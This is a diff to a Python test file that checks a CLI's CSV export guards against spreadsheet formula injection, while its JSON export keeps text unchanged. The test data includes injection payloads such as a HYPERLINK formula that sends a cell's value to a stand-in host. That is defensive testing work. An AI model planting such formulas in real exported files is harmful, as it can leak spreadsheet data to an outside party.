@@ -2,21 +2,25 @@
 
 import csv
 import io
+import json
 from pathlib import Path
 
 import pyarrow as pa
 import pyarrow.parquet as pq
+import pytest
 from web_server import ask_server, served
 
+from iomine.cli.options import Format
+from iomine.cli.terminal.formats import write
 from iomine.schema.registry import arrow_schema
 from iomine.triggers.registry import reference_table
 from iomine.views.catalog import build_catalog
-from iomine.views.encode import write_csv
 
 FORMULAS = ('=HYPERLINK("http://host.test/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
 PLAIN = ("/scratch/a=b", "'quoted", "ada", "a\rb")
 USERS = [*FORMULAS, *PLAIN]
 UIDS = list(range(-3, len(USERS) - 3))
+GUARDED = {"user": [*(f"'{text}" for text in FORMULAS), *PLAIN], "uid": [str(uid) for uid in UIDS]}
 
 
 def _read(body: bytes) -> dict[str, list[str]]:
@@ -24,11 +28,15 @@ def _read(body: bytes) -> dict[str, list[str]]:
     return {name: [row[name] for row in rows] for name in ("user", "uid")}
 
 
-def test_programs_get_texts_as_they_are() -> None:
-    """CSV for programs has every text as it is, and each row as one."""
-    file = io.BytesIO()
-    write_csv(pa.table({"user": USERS, "uid": UIDS}), file)
-    assert {"user": USERS, "uid": [str(uid) for uid in UIDS]} == _read(file.getvalue())
+@pytest.mark.parametrize("form", [Format.CSV, Format.JSON])
+def test_files_of_commands_have_no_formulas(tmp_path: Path, form: Format) -> None:
+    """CSV guards texts, and has each row as one; JSON, for programs, has every text as it is."""
+    output = tmp_path / "answer"
+    write(pa.table({"user": USERS, "uid": UIDS}), form, output)
+    if form is Format.CSV:
+        assert GUARDED == _read(output.read_bytes())
+    else:
+        assert [{"user": user, "uid": uid} for user, uid in zip(USERS, UIDS, strict=True)] == json.loads(output.read_text())
 
 
 def test_browsers_get_no_formulas(tmp_path: Path) -> None:
@@ -44,4 +52,4 @@ def test_browsers_get_no_formulas(tmp_path: Path) -> None:
     build_catalog(tmp_path / "iomine.duckdb", {"log": [str(part)]}, {"triggers": reference_table()}, {})
     with served(tmp_path) as address:
         got = _read(ask_server(address, "/views/logs.csv?columns=user,uid,log_id&order=log_id").body)
-    assert {"user": [*(f"'{text}" for text in FORMULAS), *PLAIN], "uid": [str(uid) for uid in UIDS]} == got
+    assert GUARDED == got
